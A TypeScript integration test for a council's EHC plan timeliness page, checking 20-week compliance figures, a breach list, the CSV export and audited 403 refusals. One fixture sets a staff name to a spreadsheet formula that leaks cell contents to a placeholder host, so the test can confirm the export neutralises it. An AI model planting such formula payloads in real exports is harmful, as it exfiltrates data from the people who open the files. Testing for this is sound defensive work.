/**
 * The LA timeliness page over real HTTP (issue 17), on both providers. A worked example computed by hand
 * from The SEND Regulations 2014 reg 13(2) (final plan within 20 weeks of the request: request + 140 days
 * is the last day within) and reg 13(3) (a plan with an exception recorded against the 20-week deadline is
 * left out of the "excluding exceptions" figures, as the SEN2 return counts them):
 *   A request Mon 5 Jan 2026, issued Mon 25 May (day 140): within
 *   B request Mon 5 Jan 2026, issued Tue 26 May (day 141): late
 *   C request Mon 1 Dec 2025, issued Wed 20 May (due 20 Apr): late, exception (reg 10(4)(d)) recorded
 *   D request Mon 12 Jan 2026, issued Fri 29 May (due 1 Jun): within
 *   E request Mon 2 Feb 2026, issued Wed 10 Jun (due 22 Jun): within; its officer's name is a formula
 * May 2026: including exceptions 2 of 4 = 50%; excluding, 2 of 3 (A, B, D) = 66.7%.
 * Also: the assessment that will breach unless something happens this week; a SENDCo of a school and a
 * school admin cannot open the page (403, audited); the CSV's headers and a neutralised formula cell.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { DeadlineService } from '../../app/deadlines/service.ts';
import { providers } from '../support/db.ts';
import {
  openAssessment,
  rowCells,
  seedLocalAuthority,
  seedWebSchool,
  signIn,
  startWebHub,
  type WebHub,
} from '../support/web.ts';

describe.each(providers)('timeliness page (%s)', (provider) => {
  let w: WebHub | undefined;
  afterEach(async () => {
    await w?.close();
    w = undefined;
  });

  it('counts the worked example with and without exceptions; breach list; CSV; refusals audited', async () => {
    w = await startWebHub(provider, { now: '2026-11-24T09:00:00Z' });
    const la = await seedLocalAuthority(w.hub);
    const db = w.hub.dbh.db;
    const svc = w.hub.services.get('deadlines') as DeadlineService;
    const formula = await db.staff.create({
      data: {
        orgId: la.orgId,
        displayName: '=HYPERLINK("http://x.example/?"&A1)',
        email: 'f@fenmoor.example',
      },
    });
    const plan = async (ref: string, request: string, issued: string, ownerId: string, exception = false) => {
      const caseId = await openAssessment(w!.hub, la.orgId, { reference: ref, request, ownerId, issued });
      if (exception)
        await db.caseException.create({
          data: {
            caseId,
            ruleId: 'E7',
            reason: 'reg10-4-d',
            fromDate: '2026-02-02',
            toDate: '2026-03-16',
            recordedById: ownerId,
          },
        });
    };
    await plan('EHC-A', '2026-01-05', '2026-05-25', la.staff.officer1);
    await plan('EHC-B', '2026-01-05', '2026-05-26', la.staff.officer1);
    await plan('EHC-C', '2025-12-01', '2026-05-20', la.staff.officer2, true);
    await plan('EHC-D', '2026-01-12', '2026-05-29', la.staff.officer2);
    await plan('EHC-E', '2026-02-02', '2026-06-10', formula.id);
    // Open: request Tue 14 Jul 2026, 20 weeks on Tue 1 Dec; draft served 9 Nov, comments closed 23 Nov.
    // Issued this week it meets 20 weeks; a week from now it cannot: "will breach unless…".
    const s = await db.student.create({ data: { orgId: la.orgId, givenName: 'Open', familyName: 'Case' } });
    await svc.openCase({
      orgId: la.orgId,
      studentId: s.id,
      kind: 'EHC_NEEDS_ASSESSMENT',
      startDate: '2026-07-14',
      ownerId: la.staff.officer1,
      reference: 'EHC-OPEN',
      events: [
        { kind: 'assessment_decision', occurredOn: '2026-08-18' },
        { kind: 'issue_decision', occurredOn: '2026-10-26' },
        { kind: 'draft_served', occurredOn: '2026-11-09' },
      ],
    });

    const manager = await signIn(w, la.emails.manager);
    const res = await manager.fetch('/app/timeliness?from=2026-04&to=2026-06');
    expect(res.status).toBe(200);
    const html = await res.text();
    // Plans, within, % including, plans without an exception, within (without), % excluding.
    expect(rowCells(html, 'by-month', 'Apr 2026')).toEqual(['0', '0', '–', '0', '0', '–']);
    expect(rowCells(html, 'by-month', 'May 2026')).toEqual(['4', '2', '50%', '3', '2', '66.7%']);
    expect(rowCells(html, 'by-month', 'Jun 2026')).toEqual(['1', '1', '100%', '1', '1', '100%']);
    expect(rowCells(html, 'by-year', '2026')).toEqual(['5', '3', '60%', '4', '3', '75%']);
    expect(rowCells(html, 'by-officer', 'Olu Officer')).toEqual(['2', '1', '50%', '2', '1', '50%', '0']);
    expect(rowCells(html, 'by-officer', 'Ola Officer')).toEqual(['2', '1', '50%', '1', '1', '100%', '0']);
    expect(html).toContain(
      '5 EHC plans issued: 60% within 20 weeks including exceptions, 75% excluding exceptions (1 with an exception).',
    );
    expect(html).toContain('<svg class="app-chart__svg"');
    const breach = html.slice(
      html.indexOf('id="breach-table"'),
      html.indexOf('</table>', html.indexOf('id="breach-table"')),
    );
    expect(breach).toContain('EHC-OPEN');
    expect(breach).toContain('falls within the week');

    // The CSV: headers, the May line, and the officer named by a formula neutralised.
    const csv = await manager.fetch('/app/timeliness?from=2026-04&to=2026-06&format=csv');
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.headers.get('content-disposition')).toContain('ehc-plan-timeliness-2026-04-to-2026-06.csv');
    const lines = (await csv.text()).split('\r\n');
    expect(lines[0]).toBe(
      '"Group","Month, year or officer","EHC plans issued","Issued within 20 weeks","Percent within 20 weeks (including exceptions)","Plans without an exception","Issued within 20 weeks (without an exception)","Percent within 20 weeks (excluding exceptions)","Plans with an exception","Plans counted under the officer from before the assignment history"',
    );
    expect(lines).toContain('"month","2026-05","4","2","50","3","2","66.7","1","0"');
    expect(lines).toContain(
      '"officer","\'=HYPERLINK(""http://x.example/?""&A1)","1","1","100","1","1","100","0","0"',
    );
    const audits = await db.auditEvent.findMany({
      where: { action: { startsWith: 'web.timeliness.' } },
      select: { action: true },
    });
    expect(audits.map((a) => a.action).sort()).toEqual(['web.timeliness.exported', 'web.timeliness.viewed']);

    // A bad month is named.
    const bad = await manager.fetch('/app/timeliness?from=April');
    expect(bad.status).toBe(400);
    expect(await bad.text()).toContain('From must be a month written as YYYY-MM');

    // An EHCNA officer, a school's SENDCo and a school's admin cannot open it: 403, audited.
    const school = await seedWebSchool(w.hub);
    await db.staff.create({
      data: {
        orgId: school.orgId,
        displayName: 'Sam Sendco',
        email: 'sendco@quarrydene.example',
        roles: { create: [{ role: 'SENDCO' }] },
      },
    });
    for (const email of [la.emails.officer1, 'sendco@quarrydene.example', 'admin@quarrydene.example']) {
      const who = await signIn(w, email);
      const r = await who.fetch('/app/timeliness');
      expect(r.status, email).toBe(403);
      expect(await r.text()).not.toContain('EHC-A');
    }
    expect(
      await db.auditEvent.count({ where: { action: 'web.forbidden', subjectId: '/app/timeliness' } }),
    ).toBe(3);
  });
});
